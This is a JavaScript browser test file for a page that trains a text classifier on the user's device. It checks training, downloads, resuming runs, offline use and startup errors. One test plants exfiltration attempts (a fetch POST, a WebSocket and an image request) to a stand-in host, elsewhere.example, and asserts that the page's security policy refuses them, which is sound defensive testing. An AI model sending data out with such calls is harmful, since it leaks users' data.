// The way through the page in a browser other than that of tests/page, with the real engine on the CPU.
import assert from "node:assert/strict";
import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { serve } from "../../scripts/serve.js";
import { POLICY } from "../browser/browser.js";
import { serveSite } from "../page/server.js";
import { hide } from "../page/states.js";
import { predictWith, reviews, TINY, unpack } from "../page/steps.js";
import { ABILITIES, button, launch, NAME } from "./browser.js";

const SITE = fileURLToPath(new URL("../../site", import.meta.url));
const ROOT = fileURLToPath(new URL("../../../", import.meta.url));
/** In the texts and their file's name; no request may carry it. */
const MARK = "zyzzyvas";
/** What the browser asks for by itself; WebKitGTK asks for nothing. */
const OF_THE_BROWSER = /(^|\.)(mozilla\.(com|org|net)|googleapis\.com|google\.com|gvt1\.com)(:\d+)?$/;
const TEXT = "broken, never again";

describe(`the page in ${NAME}`, () => {
  let site, browser;
  before(async () => {
    site = await serveSite(SITE);
    browser = await launch({ proxy: site.address });
  });
  after(async () => {
    await browser?.close();
    site?.close();
  });

  test("the whole way: a file, a first model, a training, predictions, downloads", async (context) => {
    const window = await browser.open();
    await window.open(site.address);
    await window.until(".engine", /Runs on the processor \(CPU\)/);
    await window.upload(`${MARK}.csv`, reviews({ mark: MARK }));
    await window.until(".estimate", /A first model is ready/);
    assert.equal((await window.tryIt("lovely and quick"))[0][0], "good");
    await window.settings({ ...TINY, "max-steps": 40 });
    const [, number, unit] = await window.until(".estimate", /About ([\d½]+) (second|minute)/);
    await window.picture("estimate", ".estimate");
    const start = performance.now();
    await window.click(button("Just train it"));
    await window.until(".status", /Run 1 is done/);
    const took = (performance.now() - start) / 1000;
    context.diagnostic(`estimated ${number} ${unit}s, took ${took.toFixed(1)} s`);
    assert.match(await window.say(".score"), /%\s+of the answers are right on \d+ examples/);

    const [[label, percentage]] = await window.tryIt(TEXT);
    const zip = await window.download(button("Download the model (zip)"));
    assert.equal(zip.name, `${MARK}-dps-dense-run1.zip`);
    const files = unpack(zip);
    for (const name of ["config.json", "model.safetensors", "tokenizer.json", "report.html"]) assert.ok(files[name]?.length > 0, name);
    const [prediction] = await predictWith(files, [TEXT]);
    assert.equal(prediction.label, label);
    assert.ok(Math.abs(100 * prediction.probability - Number(percentage)) < 0.11, `${prediction.probability} and ${percentage} %`);
    assert.match(String((await window.download(button("Download the report"))).bytes), /<h1>/);
    await window.picture("trained", "#step-3");
    assert.deepEqual(await window.errors(), []);
    await window.close();
  });

  test(`a training ${ABILITIES.keepsRuns ? "goes on after a reload, to the same model" : "is not kept, and the page says so"}`, async () => {
    const window = await browser.open();
    await window.open(site.address);
    await window.upload("reviews.csv", reviews());
    await window.settings({ ...TINY, "max-steps": 150 });
    if (!ABILITIES.keepsRuns) {
      await window.click(button("Just train it"));
      await window.until(".progress", /The run is not stored in this browser/);
      await window.until(".status", /Run 1 is done/);
      await window.picture("not-kept", ".progress");
      assert.deepEqual(await window.errors(), []);
      return void (await window.close());
    }
    const model = async () => unpack(await window.download(button("Download the model (zip)")))["model.safetensors"];
    await window.click(".keep input");
    await window.click(button("Just train it"));
    await window.until(".status", /Run 1 is done/);
    const expected = await model();

    await window.click(".keep input");
    await window.click(button("Train again"));
    const facts = '[aria-label="Run 2"] .facts';
    await window.until(facts, /Step\s*[1-9]\d* of 150/);
    await hide(window);
    await window.until(facts, /Kept up to\s*step \d/);
    await window.reload();
    await window.ready();
    await window.until(".interrupted", /reviews\.csv, method DPS dense: step \d+ of 150, saved just now/);
    await window.picture("interrupted", ".interrupted");
    await window.click(button("Continue"));
    await window.until(".status", /Run 1 is done/);
    // not deepEqual, which would list a million differences
    assert.ok(Buffer.from(await model()).equals(expected), "the model differs from that of a training without a reload");
    assert.deepEqual(await window.errors(), []);
    await window.close();
  });

  test("these tests see the page's errors", async () => {
    const window = await browser.open();
    await window.goto(site.address);
    await window.evaluate(async () => {
      setTimeout(() => {
        throw new Error("planted in a timer");
      });
      console.error("planted in the console");
      await new Promise((next) => setTimeout(next, 100));
    });
    const errors = (await window.errors()).join("\n");
    for (const place of ["a timer", "the console"]) assert.ok(errors.includes(`planted in ${place}`), errors);
    await window.close();
  });

  test("nothing is asked of another origin, and nothing of the data leaves the page", async () => {
    const window = await browser.open();
    await window.open(site.address);
    const found = await window.evaluate(async () => {
      const outcome = (promise) =>
        promise.then(
          () => "sent",
          () => "refused",
        );
      const elsewhere = "https://elsewhere.example/?stolen";
      const heard = (one) => new Promise((resolve, reject) => Object.assign(one, { onload: resolve, onopen: resolve, onerror: reject }));
      return Promise.all([
        outcome(fetch(elsewhere, { method: "POST", body: "stolen", mode: "no-cors" })),
        outcome(Promise.resolve().then(() => heard(new WebSocket("wss://elsewhere.example/")))),
        outcome(heard(Object.assign(new Image(), { src: elsewhere }))),
      ]);
    });
    assert.deepEqual(found, ["refused", "refused", "refused"]);
    await window.close();

    for (const { url, headers, body } of site.elsewhere) {
      assert.match(headers.host, OF_THE_BROWSER);
      assert.ok(!JSON.stringify([url, headers, body]).includes(MARK), url);
    }
    const base = new URL(site.address);
    assert.ok(site.asked.length > 30, `${site.asked.length} requests`);
    for (const { method, url, headers, body } of site.asked) {
      assert.equal(method, "GET", url);
      assert.equal(body, "", url);
      const { href, pathname, search } = new URL(url, base);
      // a browser asks for an icon by itself
      if (pathname !== "/favicon.ico") {
        assert.ok(href.startsWith(base.href) && search === "" && existsSync(join(SITE, pathname.slice(base.pathname.length))), url);
      }
      assert.ok(!JSON.stringify([url, headers]).includes(MARK), url);
    }
  });

  test("after one visit, a whole run with the server gone", async () => {
    const window = await browser.open();
    await window.open(site.address);
    await window.until(".engine", /Works offline from now on/);
    site.close();
    const asked = site.asked.length;
    await window.reload();
    await window.ready();
    await window.click("xpath///button[contains(., 'follow from')]");
    await window.settings(TINY);
    await window.click(button("Just train it"));
    await window.until(".status", /Run 1 is done/);
    await window.fill("#try-pair", "Somebody plays.");
    assert.equal((await window.tryIt("A man plays the guitar.")).length, 3);
    assert.equal(site.asked.length, asked);
    assert.deepEqual(await window.errors(), []);
    await window.close();
  });

  for (const run of ["full", "dense", "mix"]) {
    test(`the golden run ${run} is reproduced`, async (context) => {
      const server = await serve(ROOT, { headers: { "content-security-policy": POLICY } });
      const window = await browser.open();
      await window.goto(`${server.address}www/tests/browser/page.html`);
      const names = readdirSync(join(ROOT, "tests/golden", run));
      const { device, deviations } = await window.evaluate(
        async (folder, names) => {
          const { bytes, Subtune } = await import("/www/tests/browser/page.js");
          const contents = await Promise.all(names.map(async (name) => [name, await bytes(`${folder}/${name}`)]));
          return Subtune.reproduce(Object.fromEntries(contents), { device: "cpu" });
        },
        `tests/golden/${run}`,
        names,
      );
      assert.match(device, /cpu/i);
      assert.ok(deviations.length >= 3);
      for (const { quantity, share, place } of deviations) {
        context.diagnostic(`${quantity} deviates by ${share.toFixed(3)} of its tolerance at ${place}`);
        assert.ok(share <= 1, `${quantity} deviates by ${share} at ${place}`);
      }
      await window.close();
      server.close();
    });
  }
});

describe(`the start of the page in ${NAME}`, () => {
  // planted in a program that runs first
  const FAULTS = {
    "a language that is not one": [
      { first: 'Object.defineProperty(Navigator.prototype, "language", { get: () => "C" })' },
      /Choose a file/,
    ],
    "a program that throws before it shows anything": [
      { first: 'Intl.NumberFormat = class { constructor() { throw new RangeError("no such language"); } }' },
      /^This page could not start in this browser \(.*no such language.*\)\. Reload it/,
    ],
    "a program that throws while it shows the page": [
      { first: 'document.createElementNS = () => { throw new RangeError("not that element"); }' },
      /^This page could not start in this browser \(.*not that element.*\)\. Reload it/,
    ],
    "a program that does not arrive": [{ lacks: /app\.js$/ }, /The page is still loading/],
  };
  for (const [fault, [options, expected]] of Object.entries(FAULTS)) {
    test(`${fault} leaves no empty page`, async () => {
      const site = await serveSite(SITE, options);
      const browser = await launch({ proxy: site.address });
      try {
        const window = await browser.open();
        await window.goto(site.address);
        await window.until("#app", expected, 20_000);
      } finally {
        await browser.close();
        site.close();
      }
    });
  }
});
